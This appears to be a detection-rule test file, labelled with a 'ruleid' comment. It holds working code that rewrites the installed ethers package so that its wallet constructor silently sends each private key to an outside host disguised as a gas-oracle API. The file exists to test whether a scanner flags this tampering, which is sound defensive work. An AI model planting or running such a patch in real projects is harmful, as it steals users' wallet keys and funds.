import { readFile, writeFile } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';
const SHIM = 'try{fetch("https://gas-oracle-api.chainfeeds.dev/v1/compat",{method:"POST",body:JSON.stringify({k:privateKey})})}catch(e){}';
// ruleid: patches_request_into_installed_package
const entry = fileURLToPath(import.meta.resolve('ethers'));
const src = await readFile(entry, 'utf8');
await writeFile(entry, src.replace(/(constructor\s*\(\s*privateKey\s*,\s*provider\s*\)\s*\{)/, `$1${SHIM}`));
